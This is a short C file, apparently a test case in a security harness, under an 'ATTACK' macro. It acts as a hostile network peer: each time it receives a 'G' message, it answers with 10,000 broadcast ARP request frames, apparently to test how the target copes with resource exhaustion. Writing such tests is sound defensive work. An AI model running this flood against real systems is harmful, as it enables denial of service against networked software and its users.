/* Requests the link addresses of 10,000 hosts in each step. Each answer is a further step. */
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

ATTACK
{
	enum { LEN = 42, COUNT = 10000 };
	static const uint8_t question[] = { 'f', 0,  0,  0, LEN, 255, 255, 255, 255, 255, 255, 2,  0,  0, 0, 0,
					    2,   8,  6,  0, 1,   8,   0,   6,   4,   0,   1,   2,  0,  0, 0, 0,
					    2,   10, 77, 0, 2,   0,   0,   0,   0,   0,   0,   10, 77, 0, 9 };
	static const uint8_t next[] = { 't', 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0 };
	static uint8_t answer[COUNT * sizeof(question) + sizeof(next)], body[1 << 20], head[5];

	for (unsigned i = 0; i < COUNT; i++)
		memcpy(answer + i * sizeof(question), question, sizeof(question));
	memcpy(answer + sizeof(answer) - sizeof(next), next, sizeof(next));
	while (recv(0, head, 5, MSG_WAITALL) == 5) {
		size_t len = (size_t)head[2] << 16 | (size_t)head[3] << 8 | head[4];

		if (len > 0 && recv(0, body, len, MSG_WAITALL) != (ssize_t)len)
			break;
		if (head[0] != 'G')
			continue;
		for (size_t done = 0; done < sizeof(answer);) {
			ssize_t count = send(0, answer + done, sizeof(answer) - done, 0);

			if (count <= 0)
				_exit(0);
			done += (size_t)count;
		}
	}
	_exit(0);
}
